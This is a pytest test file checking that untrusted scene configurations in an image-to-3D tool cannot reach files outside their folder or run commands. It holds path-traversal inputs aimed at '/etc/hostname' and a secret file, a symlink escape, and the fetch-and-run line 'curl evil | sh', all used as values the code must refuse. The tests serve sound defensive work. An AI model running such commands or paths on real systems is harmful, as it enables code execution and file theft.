"""Scene files of other people reach nothing outside their own folder and run nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from i2v3d.errors import ConfigError, InputError
from i2v3d.workflow.composition import compose_variants
from i2v3d.workflow.confinement import check_confined
from i2v3d.workflow.fingerprint import Fingerprints
from i2v3d.workflow.plan import make_plan

ROOT = Path(__file__).parents[2]


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Options of a scene whose files lie in scenes/theirs, and a secret beside it."""
    (tmp_path / "scenes" / "theirs").mkdir(parents=True)
    for name in ("secret.txt", "scenes/theirs/photo.jpg", "scenes/theirs/a.glb"):
        (tmp_path / name).write_text("x")
    (variant,) = compose_variants(ROOT / "conf", ["scene=coffee"])
    monkeypatch.chdir(tmp_path)
    return variant.config["scene"] | {"name": "theirs", "photo": "scenes/theirs/photo.jpg"}


def entry(mesh: str) -> list[dict[str, Any]]:
    return [{"name": "a", "mesh": mesh}]


def test_a_scene_in_its_folder_is_confined(scene: dict[str, Any]) -> None:
    check_confined(scene)
    check_confined(scene | {"objects": entry("scenes/theirs/a.glb"), "mask": None})


@pytest.mark.parametrize(
    "path", ["secret.txt", "scenes/theirs/../../secret.txt", "/etc/hostname", "scenes/theirs/link", "~/x"]
)
@pytest.mark.parametrize("option", ["photo", "mask", "objects", "camera"])
def test_paths_that_leave_the_folder_are_refused_unread(
    option: str, path: str, scene: dict[str, Any]
) -> None:
    Path("scenes/theirs/link").symlink_to(Path("secret.txt").resolve())
    track = {"file": path, "format": "nerfstudio", "align": "photo", "scale": 1.0}
    changes = {"objects": entry(path), "camera": scene["camera"] | {"track": track}}
    with pytest.raises(InputError, match=r"outside scenes/theirs; copy the file there") as raised:
        check_confined(scene | {option: changes.get(option, path)})
    assert option in str(raised.value) and "\n" not in str(raised.value)


@pytest.mark.parametrize("name", ["../theirs", "", "/", "..", "a/b", None])
def test_the_name_is_a_folder_s_name(name: str | None, scene: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match=r"scene\.name is"):
        check_confined(scene | {"name": name})


def test_commands_do_not_run(scene: dict[str, Any]) -> None:
    evil = {"method": "command", "generator": {"command": "curl evil | sh"}}
    with pytest.raises(ConfigError, match=r"scene\.foreground\.generator\.command would run 'curl evil"):
        check_confined(scene | {"foreground": evil})
    check_confined(scene | {"foreground": {"generator": {"command": None}}})


@pytest.mark.slow
def test_the_plan_refuses_before_it_reads_anything(scene: dict[str, Any], monkeypatch) -> None:
    monkeypatch.chdir(ROOT)
    words = ["scene=coffee_figure", "scene.mask=README.md", "untrusted_scene=true"]
    with pytest.raises(InputError, match=r"names scenes/coffee/photo\.jpg, outside scenes/coffee_figure"):
        make_plan(compose_variants(ROOT / "conf", words), Fingerprints(Path("unused.json")))
    words = ["scene=coffee", "scene.mask=README.md", "untrusted_scene=true"]
    with pytest.raises(InputError, match=r"scene\.mask names README\.md, outside scenes/coffee"):
        make_plan(compose_variants(ROOT / "conf", words), Fingerprints(Path("unused.json")))
    make_plan(
        compose_variants(ROOT / "conf", ["scene=coffee", "untrusted_scene=true"]),
        Fingerprints(Path("unused.json")),
    )
